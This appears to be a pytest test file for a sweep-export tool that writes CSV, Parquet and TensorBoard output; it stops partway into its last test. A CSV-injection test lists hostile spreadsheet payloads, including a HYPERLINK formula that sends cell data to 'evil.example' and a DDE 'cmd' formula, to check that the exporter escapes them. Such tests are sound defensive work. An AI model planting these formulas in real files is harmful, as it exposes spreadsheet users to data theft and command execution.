"""`sweeplab export` / `sweeplab.export.export_sweep`: a sweep as a CSV or Parquet table of trials, or as
TensorBoard runs (curves + the HParams plugin's records), read back with pyarrow and TensorBoard's own
readers; the store is never written, and an export is replaced whole or not at all."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

import sweeplab as sl
from sweeplab import export as export_mod
from sweeplab.errors import UserError
from sweeplab.export import MARKER, STATE_HPARAM, export_sweep
from sweeplab.store import Store, queries

FIXTURES = Path(__file__).resolve().parent / "fixtures"
TRIALS = FIXTURES / "trials.py"


@pytest.fixture(scope="module")
def swept(tmp_path_factory) -> Path:
    """A finished sweep `sw` of 4 trials (grid x [1, 2] x steps [2, 4]; `quick` logs loss and x per step)."""
    root = tmp_path_factory.mktemp("export")
    outcome = sl.run_sweep({"function": f"{TRIALS}:quick", "method": "grid", "metric": {"name": "loss",
                            "goal": "minimize"}, "parameters": {"x": {"values": [1.0, 2.0]},
                                                                "steps": {"values": [2, 4]}}},
                           store=root / "store", name="sw", workers=1)
    assert outcome.exit_code == 0
    return root / "store"


def _status(store: Path) -> dict:
    st = Store.open(store, readonly=True)
    try:
        return queries.sweep_status(st, "sw")
    finally:
        st.close()


def _fingerprint(store: Path) -> dict[str, str]:
    return {str(p.relative_to(store)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(store.rglob("*")) if p.is_file()}


def test_csv_has_one_row_per_trial_with_params_and_final_metrics(swept, tmp_path):
    out = export_sweep("sw", tmp_path / "sw.csv", store=swept)
    rows = list(csv.DictReader(out.open()))
    trials = _status(swept)["trials"]
    assert [int(r["number"]) for r in rows] == [t["number"] for t in trials] == [0, 1, 2, 3]
    for r, t in zip(rows, trials):
        assert r["state"] == t["state"] == "completed"
        assert float(r["value"]) == pytest.approx(t["value"])
        assert float(r["params.x"]) == t["params"]["x"] and int(r["params.steps"]) == t["params"]["steps"]
        assert float(r["metrics.loss"]) == pytest.approx(t["metrics"]["loss"])
        assert float(r["seconds"]) >= 0 and r["reason"] == ""


def test_parquet_holds_the_same_table_with_typed_columns(swept, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    out = export_sweep("sw", tmp_path / "sw.parquet", format="parquet", store=swept)
    table = pq.read_table(out)
    assert table.num_rows == 4
    assert str(table.schema.field("params.x").type) == "double"
    assert str(table.schema.field("params.steps").type) == "int64"
    data = table.to_pydict()
    trials = _status(swept)["trials"]
    assert data["metrics.loss"] == pytest.approx([t["metrics"]["loss"] for t in trials])
    assert data["state"] == ["completed"] * 4


def test_tensorboard_export_has_every_curve_and_the_hparams_table(swept, tmp_path):
    pytest.importorskip("tensorboard")
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
    from tensorboard.plugins.hparams import metadata

    out = export_sweep("sw", tmp_path / "tb", format="tensorboard", store=swept)
    assert (out / MARKER).is_file()
    trials = _status(swept)["trials"]
    assert sorted(p.name for p in out.iterdir() if p.is_dir()) == [f"trial-{t['number']:04d}" for t in trials]

    root = EventAccumulator(str(out))
    root.Reload()
    experiment = metadata.parse_experiment_plugin_data(
        root.SummaryMetadata(metadata.EXPERIMENT_TAG).plugin_data.content)
    assert experiment.name == "sw"
    assert [h.name for h in experiment.hparam_infos] == ["steps", "x", STATE_HPARAM]
    assert sorted(m.name.tag for m in experiment.metric_infos) == ["loss", "x"]

    for t in trials:
        acc = EventAccumulator(str(out / f"trial-{t['number']:04d}"))
        acc.Reload()
        steps = t["params"]["steps"]
        loss = acc.Scalars("loss")
        assert [e.step for e in loss] == list(range(steps))
        assert [e.value for e in loss] == pytest.approx([1.0 / (s + 1) for s in range(steps)])
        start = metadata.parse_session_start_info_plugin_data(
            acc.SummaryMetadata(metadata.SESSION_START_INFO_TAG).plugin_data.content)
        assert start.hparams["x"].number_value == t["params"]["x"]
        assert start.hparams["steps"].number_value == steps
        assert start.hparams[STATE_HPARAM].string_value == "completed"
        end = metadata.parse_session_end_info_plugin_data(
            acc.SummaryMetadata(metadata.SESSION_END_INFO_TAG).plugin_data.content)
        assert end.status == 1   # STATUS_SUCCESS


def test_exports_never_write_the_store(swept, tmp_path):
    pytest.importorskip("pyarrow")
    pytest.importorskip("tensorboard")
    before = _fingerprint(swept)
    for fmt, name in (("csv", "a.csv"), ("parquet", "a.parquet"), ("tensorboard", "tb")):
        export_sweep("sw", tmp_path / name, format=fmt, store=swept)
    assert _fingerprint(swept) == before


def test_a_failed_export_leaves_the_previous_one_whole_and_no_temporary_files(swept, tmp_path, monkeypatch):
    pytest.importorskip("tensorboard")
    tb = export_sweep("sw", tmp_path / "tb", format="tensorboard", store=swept)
    table = export_sweep("sw", tmp_path / "sw.csv", store=swept)
    tb_files, table_text = sorted(p.relative_to(tb) for p in tb.rglob("*")), table.read_text()

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(export_mod, "_write_trial", broken)
    with pytest.raises(OSError, match="disk full"):
        export_sweep("sw", tb, format="tensorboard", store=swept)
    monkeypatch.setattr(export_mod.csv, "writer", broken)
    with pytest.raises(OSError, match="disk full"):
        export_sweep("sw", table, store=swept)
    assert sorted(p.relative_to(tb) for p in tb.rglob("*")) == tb_files
    assert table.read_text() == table_text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sw.csv", "tb"]   # nothing half-written beside them


def test_an_export_replaces_only_an_earlier_export(swept, tmp_path):
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep me")
    with pytest.raises(UserError, match="not an earlier TensorBoard export"):
        export_sweep("sw", mine, format="tensorboard", store=swept)
    assert [p.name for p in mine.iterdir()] == ["notes.txt"]
    with pytest.raises(UserError, match="unknown format 'xml'"):
        export_sweep("sw", tmp_path / "x", format="xml", store=swept)


def _cli(tmp: Path, store: Path, *args: str) -> subprocess.CompletedProcess:
    env = dict(os.environ, SWEEPLAB_STORE=str(store), COLUMNS="200")
    return subprocess.run([sys.executable, "-m", "sweeplab", "export", *args], cwd=tmp, env=env,
                          capture_output=True, text=True, timeout=120)


def test_cli_exports_and_reports_bad_input_with_exit_2(swept, tmp_path):
    cp = _cli(tmp_path, swept, "sw")
    assert cp.returncode == 0, cp.stderr
    assert "wrote sw.csv" in cp.stdout and len(list(csv.DictReader((tmp_path / "sw.csv").open()))) == 4
    cp = _cli(tmp_path, swept, "sw", "--format", "tensorboard", "-o", "runs/sw")
    assert cp.returncode == 0, cp.stderr
    assert "tensorboard --logdir runs/sw" in cp.stdout and (tmp_path / "runs" / "sw" / MARKER).is_file()
    for args, message in ((("nope",), "no sweep named 'nope'"), (("sw", "-f", "xml"), "unknown format 'xml'")):
        cp = _cli(tmp_path, swept, *args)
        assert cp.returncode == 2 and message in cp.stderr and len(cp.stderr.strip().splitlines()) == 1, cp.stderr


@pytest.mark.slow
def test_a_trial_writing_its_own_tensorboard_events_works_in_a_sweep(tmp_path):
    """torch.utils.tensorboard inside the training function: its event files are written where it says,
    with its own curves and hparams, and the Run gets its reports as usual."""
    pytest.importorskip("tensorboard")
    pytest.importorskip("torch")
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator

    logdir = tmp_path / "own"
    outcome = sl.run_sweep({"function": f"{FIXTURES / 'frameworks.py'}:tensorboard_trial", "method": "grid",
                            "metric": {"name": "loss", "goal": "minimize"},
                            "parameters": {"x": {"values": [1.0, 3.0]}, "steps": {"value": 5},
                                           "logdir": {"value": str(logdir)}}},
                           store=tmp_path / "store", name="own", workers=2)
    assert outcome.exit_code == 0 and outcome.counts.get("completed") == 2
    for trial, x in ((0, 1.0), (1, 3.0)):
        acc = EventAccumulator(str(logdir / f"trial-{trial}"))
        acc.Reload()
        assert [e.value for e in acc.Scalars("own/loss")] == pytest.approx([x / (s + 1) for s in range(5)])
    st = Store.open(tmp_path / "store", readonly=True)
    try:
        curve = queries.curves(st, "own", [0, 1], "loss")["trials"]
    finally:
        st.close()
    assert [c["n"] for c in curve] == [5, 5]
    assert json.dumps(outcome.best_params) and outcome.best_params["x"] == 1.0


def test_an_export_never_replaces_a_file_of_the_store(swept, tmp_path):
    """`--out` naming the store's own database (directly, through a symlink, or its WAL), or any path inside
    the store, is refused before anything is written: an export would otherwise rename a CSV over store.db
    and every sweep in it would be gone."""
    before = _fingerprint(swept)
    link = tmp_path / "link.csv"
    link.symlink_to(swept / "store.db")
    for out in (swept / "store.db", link, swept / "store.db-wal", swept / "logs" / "sw.csv", swept):
        with pytest.raises(UserError, match="inside the store"):
            export_sweep("sw", out, store=swept)
    with pytest.raises(UserError, match="inside the store"):
        export_sweep("sw", swept / "tb", format="tensorboard", store=swept)
    assert _fingerprint(swept) == before and link.is_symlink()
    cp = _cli(tmp_path, swept, "sw", "-o", str(swept / "store.db"))
    assert cp.returncode == 2 and "inside the store" in cp.stderr, cp.stderr
    assert _fingerprint(swept) == before


def test_parquet_keeps_an_integer_beyond_64_bits_as_its_exact_text(tmp_path):
    """A parameter value past int64 (`values: [18446744073709551616, 1]`, which YAML 1.2 reads as an int):
    the Parquet export writes that column as text, exact, as it does for a column mixing types, instead of
    ending with an OverflowError."""
    pq = pytest.importorskip("pyarrow.parquet")
    store = tmp_path / "store"
    st = Store.open(store)
    with st.transaction():
        sid = st.create_sweep(name="big", method="grid", metric="loss", goal="minimize", spec={}, spec_path=None,
                              seed=0)
        for n, a in enumerate([2**64, 1, -(2**63) - 1]):
            tid = st.add_trial(sid, n, {"a": a, "b": n}, None, seed=n)
            st.update_trial(tid, state="completed", value=float(n), metrics={"loss": float(n), "count": a})
    st.close()
    table = pq.read_table(export_sweep("big", tmp_path / "big.parquet", format="parquet", store=store))
    assert table.column("params.a").to_pylist() == ["18446744073709551616", "1", "-9223372036854775809"]
    assert table.column("metrics.count").to_pylist() == ["18446744073709551616", "1", "-9223372036854775809"]
    assert table.column("params.b").to_pylist() == [0, 1, 2]


def test_a_long_sweep_name_gets_a_default_file_name_the_file_system_takes(tmp_path):
    """The default --out is made from the sweep's name: a 300-character name made a file name past the
    255-byte limit (OSError traceback). It is shortened as the store shortens the sweep's directories, and
    a target that cannot be written at all is one error line, exit 1."""
    store = tmp_path / "store"
    long = "n" * 300
    st = Store.open(store)
    with st.transaction():
        sid = st.create_sweep(name=long, method="grid", metric="loss", goal="minimize", spec={}, spec_path=None,
                              seed=0)
        tid = st.add_trial(sid, 0, {"x": 1}, None, seed=0)
        st.update_trial(tid, state="completed", value=1.0, metrics={"loss": 1.0})
    st.close()
    out = tmp_path / "out"
    out.mkdir()
    cp = _cli(out, store, long)
    assert cp.returncode == 0, cp.stderr[-1000:]
    (written,) = out.iterdir()
    assert written.suffix == ".csv" and len(written.name.encode()) <= 255 and written.name.startswith("nnn")
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    cp = _cli(out, store, long, "-o", str(blocker / "x.csv"))
    lines = cp.stderr.strip().splitlines()
    assert cp.returncode == 1 and len(lines) == 1 and str(blocker) in lines[0], cp.stderr[-1000:]


def test_a_constrained_sweep_exports_feasibility_and_a_multi_objective_one_its_ranks(tmp_path):
    """A table of a sweep with constraints says which trials are infeasible (sorting its `value` column would
    otherwise put an infeasible trial on top), and one with several objectives gives each trial's front rank,
    as `status` does."""
    pq = pytest.importorskip("pyarrow.parquet")
    store = tmp_path / "store"
    st = Store.open(store)
    spec = {"metric": [{"name": "acc", "goal": "maximize"}, {"name": "lat", "goal": "minimize"}],
            "constraints": [{"metric": "mem", "max": 1}]}
    with st.transaction():
        sid = st.create_sweep(name="mo", method="grid", metric="acc", goal="maximize", spec=spec, spec_path=None,
                              seed=0)
        for n, (acc, lat, ok) in enumerate([(0.9, 5.0, True), (0.99, 1.0, False), (0.5, 9.0, True), (0.95, 4.0, True)]):
            tid = st.add_trial(sid, n, {"x": n}, None, seed=n)
            st.update_trial(tid, state="completed", value=acc, objective_values=[acc, lat], feasible=ok,
                            metrics={"acc": acc, "lat": lat, "mem": 0.5 if ok else 2.0})
        tid = st.add_trial(sid, 4, {"x": 4}, None, seed=4)
        st.update_trial(tid, state="failed", reason="boom")
    st.close()
    rows = list(csv.DictReader(export_sweep("mo", tmp_path / "mo.csv", store=store).open()))
    assert [(r["feasible"], r["rank"]) for r in rows] == [
        ("True", "2"), ("False", ""), ("True", "3"), ("True", "1"), ("", "")]
    table = pq.read_table(export_sweep("mo", tmp_path / "mo.parquet", format="parquet", store=store))
    assert table.column("feasible").to_pylist() == [True, False, True, True, None]
    assert table.column("rank").to_pylist() == [2, None, 3, 1, None]
    plain = list(csv.DictReader(export_sweep("sw", tmp_path / "sw.csv", store=_single(tmp_path)).open()))
    assert "feasible" not in plain[0] and "rank" not in plain[0]


def _single(tmp_path: Path) -> Path:
    store = tmp_path / "single"
    st = Store.open(store)
    with st.transaction():
        sid = st.create_sweep(name="sw", method="grid", metric="loss", goal="minimize", spec={}, spec_path=None,
                              seed=0)
        tid = st.add_trial(sid, 0, {"x": 0}, None, seed=0)
        st.update_trial(tid, state="completed", value=1.0)
    st.close()
    return store


def test_an_export_gets_the_permissions_of_a_file_the_user_writes(swept, tmp_path):
    """Built under a temporary name (mkstemp: 0600, mkdtemp: 0700) and renamed, an export was private:
    a colleague could not read the CSV, nor `tensorboard --logdir` the directory. A new export gets the
    umask's permissions, as `open()` and `mkdir` give; a replaced file keeps the permissions it had."""
    pytest.importorskip("tensorboard")
    old = os.umask(0o022)
    try:
        table = export_sweep("sw", tmp_path / "sw.csv", store=swept)
        runs = export_sweep("sw", tmp_path / "tb", format="tensorboard", store=swept)
        kept = tmp_path / "kept.csv"
        kept.write_text("old")
        kept.chmod(0o640)
        export_sweep("sw", kept, store=swept)
    finally:
        os.umask(old)
    assert table.stat().st_mode & 0o777 == 0o644
    assert runs.stat().st_mode & 0o777 == 0o755
    assert all(p.stat().st_mode & 0o777 == (0o755 if p.is_dir() else 0o644) for p in runs.rglob("*"))
    assert kept.stat().st_mode & 0o777 == 0o640 and kept.read_text() != "old"


def test_tensorboard_hparams_values_have_the_type_their_column_declares(tmp_path):
    """A parameter mixing numbers and text (`values: [0.1, "txt"]`) is declared a STRING column in the
    HParams experiment: its values were still written as numbers (TensorBoard's own `hp.Discrete` refuses a
    domain mixing types, and its filters compare by the declared type), and an inactive conditional
    parameter (`null`) was written as the text "" into a number column. Now every value of a STRING column
    is text, and a trial without a value for a parameter has no value for it (an empty cell)."""
    pytest.importorskip("tensorboard")
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
    from tensorboard.plugins.hparams import api_pb2, metadata

    store = tmp_path / "store"
    st = Store.open(store)
    with st.transaction():
        sid = st.create_sweep(name="mix", method="grid", metric="loss", goal="minimize", spec={},
                              spec_path=None, seed=0)
        for n, (y, z) in enumerate([(0.1, 1.5), ("txt", None), (0.2, 2.5)]):
            tid = st.add_trial(sid, n, {"y": y, "z": z}, None, seed=n)
            st.update_trial(tid, state="completed", value=float(n), metrics={"loss": float(n)})
    st.close()
    out = export_sweep("mix", tmp_path / "tb", format="tensorboard", store=store)

    def content(folder: Path, tag: str) -> bytes:
        acc = EventAccumulator(str(folder))
        acc.Reload()
        return acc.SummaryMetadata(tag).plugin_data.content

    experiment = metadata.parse_experiment_plugin_data(content(out, metadata.EXPERIMENT_TAG))
    infos = {i.name: i for i in experiment.hparam_infos}
    assert infos["y"].type == api_pb2.DATA_TYPE_STRING
    assert [v.WhichOneof("kind") for v in infos["y"].domain_discrete.values] == ["string_value"] * 3
    assert infos["z"].type == api_pb2.DATA_TYPE_FLOAT64
    starts = [metadata.parse_session_start_info_plugin_data(
        content(out / f"trial-{n:04d}", metadata.SESSION_START_INFO_TAG)).hparams for n in range(3)]
    assert [s["y"].WhichOneof("kind") for s in starts] == ["string_value"] * 3
    assert [s["y"].string_value for s in starts] == ["0.1", "txt", "0.2"]
    assert [s["z"].number_value for s in (starts[0], starts[2])] == [1.5, 2.5] and "z" not in starts[1]


def test_an_export_to_stdout_is_the_table_alone(swept, tmp_path):
    """`sweeplab export SWEEP -o /dev/stdout > trials.csv` (docs/integrations.md): the `wrote /dev/stdout` line
    was printed on stdout after the table, a last row that is not a trial. The note goes to stderr there."""
    cp = _cli(tmp_path, swept, "sw", "-o", "/dev/stdout")
    assert cp.returncode == 0, cp.stderr
    file = export_sweep("sw", tmp_path / "sw.csv", store=swept)
    assert cp.stdout == file.read_text()
    assert "wrote /dev/stdout" in cp.stderr
    dash = _cli(tmp_path, swept, "sw", "-o", "-")   # the usual spelling of stdout: not a file named "-"
    assert dash.returncode == 0 and dash.stdout == file.read_text(), dash.stderr
    assert not (tmp_path / "-").exists()
    cp = _cli(tmp_path, swept, "sw", "-o", "-", "--format", "tensorboard")   # a directory of event files
    assert cp.returncode == 2 and "tensorboard" in cp.stderr and not (tmp_path / "-").exists()


def test_parquet_fixed_columns_keep_their_types_when_empty(swept, tmp_path):
    """A column with no value in any row (`reason` when every trial completed, every column of a sweep with no
    trial yet) was written with Arrow's `null` type, so two exports of one pipeline had different schemas
    (`reason: null` here, `string` there). The fixed columns now always have their own types."""
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    expected = {"number": pa.int64(), "state": pa.string(), "value": pa.float64(), "attempts": pa.int64(),
                "started": pa.float64(), "ended": pa.float64(), "seconds": pa.float64(), "reason": pa.string()}
    store = tmp_path / "store"
    st = Store.open(store)
    with st.transaction():
        st.create_sweep(name="empty", method="grid", metric="loss", goal="minimize", spec={}, spec_path=None, seed=0)
    st.close()
    for name, where in (("sw", swept), ("empty", store)):
        schema = pq.read_schema(export_sweep(name, tmp_path / f"{name}.parquet", format="parquet", store=where))
        assert {k: schema.field(k).type for k in expected} == expected, name


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\tTAB", "\rCR", "'=quoted", "plain", "-0.5"]
_TRIGGER = ("=", "+", "-", "@", "\t", "\r", "\n")


def _unescape(cell: str) -> str:
    """What docs/integrations.md tells a reader: drop one leading quote from a text cell matching '+[=+-@\\t\\r\\n]."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'").startswith(_TRIGGER) else cell


def test_csv_text_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
    """CSV injection (OWASP): hostile text in a parameter's value and name, a final metric, and an error message
    (a failed trial's reason) is written with a leading single quote; numbers (-0.5) stay numbers, and dropping
    the quote gives back the exact text. The `sweeplab export` command writes the same table."""
    store = tmp_path / "store"
    outcome = sl.run_sweep({"function": f"{TRIALS}:hostile", "method": "grid",
                            "metric": {"name": "loss", "goal": "minimize"},
                            "parameters": {"label": {"values": FORMULAS}, "fail": {"values": [False, True]},
                                           "x": {"value": -0.5}, "@cmd": {"value": "=1+1"}},
                            "trial": {"retries": 0}}, store=store, name="hx", workers=2)
    assert outcome.state.value == "finished"
    cp = subprocess.run([sys.executable, "-m", "sweeplab", "export", "hx", "-o", "-"], capture_output=True,
                        env={**os.environ, "SWEEPLAB_STORE": str(store)}, check=True)
    file = export_sweep("hx", tmp_path / "hx.csv", store=store)
    assert file.read_bytes() == cp.stdout
    raw = list(csv.reader(file.open(newline="", encoding="utf-8")))
    header, rows = raw[0], raw[1:]
    assert "params.@cmd" in header                   # a header cell starts with its column group
    for row in raw:
        for cell in row:
            assert not cell.startswith(_TRIGGER) or _is_number(cell), (cell, row)
    table = [dict(zip(header, r)) for r in rows]
    assert sorted({_unescape(r["params.label"]) for r in table}) == sorted(FORMULAS)
    for r in table:
        assert r["params.@cmd"] == "'=1+1" and _unescape(r["params.@cmd"]) == "=1+1"
        assert r["params.x"] == "-0.5" and float(r["params.x"]) == -0.5       # a number: no quote
        label = _unescape(r["params.label"])
        if r["state"] == "failed":
            assert _unescape(r["reason"]).endswith(label.strip()), r
        else:
            assert r["value"] == "-0.5" and r["metrics.loss"] == "-0.5"
    assert {r["params.label"] for r in table} >= {"'-0.5", "''=quoted", "plain", "'@SUM(A1:A2)"}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(("value", "cell"), [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("=rule: stopped at step 3", "'=rule: stopped at step 3"),
    ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("\nx", "'\nx"),
    ("'=x", "''=x"), ("''+x", "'''+x"), ("'plain", "'plain"), ("plain", "plain"), ("", ""), ("'", "'"),
    (-0.5, -0.5), (-3, -3), (float("-inf"), float("-inf")), (True, True), (None, ""),
], ids=repr)
def test_csv_cell_quotes_only_text_a_spreadsheet_runs(value, cell):
    """A reason that begins with a custom monitor's name (`custom(fn, name="=...")`), any text: quoted;
    numbers and booleans as they are. Removing one quote from a quoted cell gives the value back."""
    out = export_mod._csv_cell(value)
    assert out == cell and type(out) is type(cell)
    if isinstance(value, str):
        assert _unescape(out) == value


def test_an_export_to_standard_output_that_the_reader_closes_early_ends_quietly(tmp_path):
    """`sweeplab export NAME -o - | head`: the reader closing the pipe is the reader's choice, not a failure to
    report ("error: export: cannot write /dev/stdout: Broken pipe; nothing was replaced"). It ends with exit 1
    and nothing on stderr, as `status` does piped to head."""
    from sweeplab.dashboard.synthetic import make_synthetic_store

    store = make_synthetic_store(tmp_path / "store", trials=800, points=800, with_logs=False)   # > a pipe's 64 KB
    for fmt in ("csv", "parquet"):
        proc = subprocess.Popen([sys.executable, "-m", "sweeplab", "export", "demo", "-f", fmt, "-o", "-", "--store",
                                 str(store)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert proc.stdout is not None and proc.stderr is not None
        assert proc.stdout.read(10)
        proc.stdout.close()
        err = proc.stderr.read().decode()
        assert proc.wait(timeout=120) == 1 and err == "", (fmt, err)


def test_a_tensorboard_export_reads_one_trial_s_curves_at_a_time(swept, tmp_path, monkeypatch):
    """The TensorBoard export gathered every point of the sweep before writing the first trial (a sweep of
    1,000 trials x 1,000 points: 238 MB); it now reads each trial's curves as it writes that trial."""
    read: list[int] = []
    real_histories, real_write = queries.trial_histories, export_mod._write_trial

    def histories(st, name):
        for number, curves in real_histories(st, name):
            read.append(number)
            yield number, curves

    def write(folder, i, number, columns, kinds, curves, created):
        assert read[-1] == number and len(read) == i + 1, (read, number)   # this trial's, none further
        assert curves
        return real_write(folder, i, number, columns, kinds, curves, created)

    monkeypatch.setattr(queries, "trial_histories", histories)
    monkeypatch.setattr(queries, "metric_history", None)   # the whole sweep at once: not used
    monkeypatch.setattr(export_mod, "_write_trial", write)
    export_sweep("sw", tmp_path / "tb", format="tensorboard", store=swept)
    assert read == [0, 1, 2, 3]


@pytest.mark.parametrize("sig", ["SIGTERM", "SIGHUP"])
def test_an_export_killed_mid_write_leaves_no_temporary_files(tmp_path, sig):
    """`kill PID` (or a closed terminal) while a TensorBoard export is being written: the half-written
    directory beside the target is removed as on Ctrl-C, and the target never appears."""
    import signal
    import time

    from sweeplab.dashboard.synthetic import make_synthetic_store

    store = make_synthetic_store(tmp_path / "store", trials=200, points=600_000, with_logs=False)
    out = tmp_path / "out"
    out.mkdir()
    env = {**os.environ, "SWEEPLAB_STORE": str(store)}
    proc = subprocess.Popen([sys.executable, "-m", "sweeplab", "export", "demo", "-f", "tensorboard", "-o",
                             str(out / "tb")], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while not list(out.glob(".tb.tmp-*/trial-*")) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)
    assert proc.poll() is None, "the export ended before it could be interrupted: give it more points"
    proc.send_signal(getattr(signal, sig))
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode != 0
    assert b"Traceback" not in stderr, stderr
    assert list(out.iterdir()) == [], list(out.iterdir())   # neither the export nor its temporary directory


def test_the_format_follows_the_out_files_suffix_unless_given(swept, tmp_path):
    """`export sw -o trials.parquet` writes Parquet (not a CSV file named .parquet); a --format that
    contradicts the suffix is refused before anything is written."""
    import pyarrow.parquet as pq

    cp = _cli(tmp_path, swept, "sw", "-o", "trials.parquet")
    assert cp.returncode == 0, cp.stderr
    assert pq.read_table(tmp_path / "trials.parquet").num_rows == 4
    cp = _cli(tmp_path, swept, "sw", "-o", "t.csv")
    assert cp.returncode == 0 and (tmp_path / "t.csv").read_text().startswith("number,"), cp.stderr
    cp = _cli(tmp_path, swept, "sw", "--format", "csv", "-o", "other.parquet")
    assert cp.returncode == 2 and "--format csv" in cp.stderr and len(cp.stderr.splitlines()) == 1, cp.stderr
    assert not (tmp_path / "other.parquet").exists()
    cp = _cli(tmp_path, swept, "sw", "-o", "table.txt")   # another suffix: the default format, csv
    assert cp.returncode == 0 and (tmp_path / "table.txt").read_text().startswith("number,"), cp.stderr


def test_an_out_directory_gets_the_table_under_its_default_name(swept, tmp_path):
    """`-o exports/` (a trailing slash: a directory, made if missing) or `-o exports` naming an existing
    directory puts `sw.csv` in it, as `cp FILE DIR` does; `-o exports/` never becomes a file named `exports`."""
    cp = _cli(tmp_path, swept, "sw", "-o", "new/")
    assert cp.returncode == 0, cp.stderr
    assert (tmp_path / "new").is_dir() and len(list(csv.DictReader((tmp_path / "new" / "sw.csv").open()))) == 4
    (tmp_path / "old").mkdir()
    cp = _cli(tmp_path, swept, "sw", "-o", "old", "-f", "parquet")
    assert cp.returncode == 0, cp.stderr
    assert (tmp_path / "old" / "sw.parquet").is_file()
    assert "old/sw.parquet" in cp.stdout


def test_an_out_path_with_an_unexpanded_tilde_is_under_home(swept, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    env = dict(os.environ, SWEEPLAB_STORE=str(swept), HOME=str(home))
    cp = subprocess.run([sys.executable, "-m", "sweeplab", "export", "sw", "--out=~/t.csv"], cwd=tmp_path, env=env,
                        capture_output=True, text=True, timeout=120)
    assert cp.returncode == 0, cp.stderr
    assert (home / "t.csv").is_file() and not (tmp_path / "~").exists()


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_an_export_to_standard_output_appends_where_the_shell_says(swept, tmp_path, fmt):
    """`export sw -o - >> all.csv` (or inside `{ echo head; sweeplab export ...; echo foot; } > f`): the
    table is written through the open standard output, where the shell put it. Resolving /dev/stdout to the
    file and renaming a new file over it wiped what was there before and lost what came after."""
    env = dict(os.environ, SWEEPLAB_STORE=str(swept))
    out = tmp_path / f"all.{fmt}"
    script = (f'echo BEFORE > "{out}"; {{ "{sys.executable}" -m sweeplab export sw -o - -f {fmt}; echo AFTER; }} '
              f'>> "{out}"')
    cp = subprocess.run(["sh", "-c", script], cwd=tmp_path, env=env, capture_output=True, timeout=120)
    assert cp.returncode == 0, cp.stderr
    data = out.read_bytes()
    assert data.startswith(b"BEFORE\n") and data.endswith(b"AFTER\n"), data[:100] + b"..." + data[-100:]
    assert b"wrote" not in data
    body = data[len(b"BEFORE\n"):-len(b"AFTER\n")]
    if fmt == "csv":
        assert len(list(csv.DictReader(body.decode().splitlines()))) == 4
    else:
        import io

        import pyarrow.parquet as pq

        assert pq.read_table(io.BytesIO(body)).num_rows == 4


def test_an_abandoned_export_silences_only_tensorboards_writer_threads(monkeypatch):
    """The SIGTERM export test failed once in the suite: the removal of the half-written directory made a
    TensorBoard writer thread, still flushing into it, print "Exception in thread Thread-2: Traceback"."""
    import threading

    from sweeplab import export

    shown: list[str] = []
    monkeypatch.setattr(threading, "excepthook", lambda args: shown.append(str(args.exc_value)))
    export._quiet_writer_threads()

    class _AsyncWriterThread(threading.Thread):
        def run(self) -> None:
            raise FileNotFoundError("events.out.tfevents: gone with the abandoned export")

    class Other(threading.Thread):
        def run(self) -> None:
            raise ValueError("news")

    for cls in (_AsyncWriterThread, Other):
        t = cls()
        t.start()
        t.join()
    assert shown == ["news"], shown


def _large_trial_store(root: Path, steps: int, keys: int) -> Path:
    """Sweep 'big': trial 0 logged `loss` at `steps` steps (a second attempt logged the last 100 again, the
    latest wins; some points NaN, one beyond float32) and `keys` other metrics once each; trial 1 a little."""
    import time as _time

    st = Store.open(root)
    with st.transaction():
        sid = st.create_sweep(name="big", method="random", metric="loss", goal="minimize", seed=0, spec_path=None,
                              spec={"method": "random", "parameters": {"lr": {"min": 0.0, "max": 1.0}}})
        for i in range(2):
            tid = st.add_trial(sid, i, {"lr": 0.1 * (i + 1)}, {"lr": 0.1 * (i + 1)}, seed=i)
            st.add_attempt(tid, 1, started=1000.0, host="h", pid=1, log_path=None)
            n = steps if i == 0 else 5
            pts = [(s, "loss", float("nan") if s % 997 == 5 else 1e300 if s == 7 else 1.0 / (s + 1), 1000.0 + s)
                   for s in range(n)]
            if i == 0:
                pts += [(0, f"m.{k:05d}", float(k), 1000.0) for k in range(keys)]
            st.add_metrics(tid, 1, pts)
            if i == 0:
                st.add_attempt(tid, 2, started=5000.0, host="h", pid=2, log_path=None)
                st.add_metrics(tid, 2, [(s, "loss", -float(s), 5000.0 + s) for s in range(n - 100, n)])
            st.update_trial(tid, state="completed", value=0.5, attempts=2 if i == 0 else 1, started=1000.0,
                            ended=_time.time(), reason=None, last_step=n - 1, profile=None,
                            metrics={"loss": 0.5, **({f"m.{k:05d}": float(k) for k in range(keys)} if i == 0 else {})})
    st.close()
    return root


def test_a_large_trial_is_exported_whole_to_tensorboard_and_parquet(tmp_path):
    """A trial of 20,000 points and 3,000 metrics: every point (the latest attempt's for a step logged twice,
    NaN skipped, past float32 infinite) in its TensorBoard run, every metric a Parquet column. The writer
    queued each point to TensorBoard's writer thread as three protobuf objects with pure-Python checksums:
    100,000 points took 15 s to 150 s; the event records are now encoded and checksummed in batches."""
    pytest.importorskip("tensorboard")
    pytest.importorskip("pyarrow")
    import math

    import pyarrow.parquet as pq
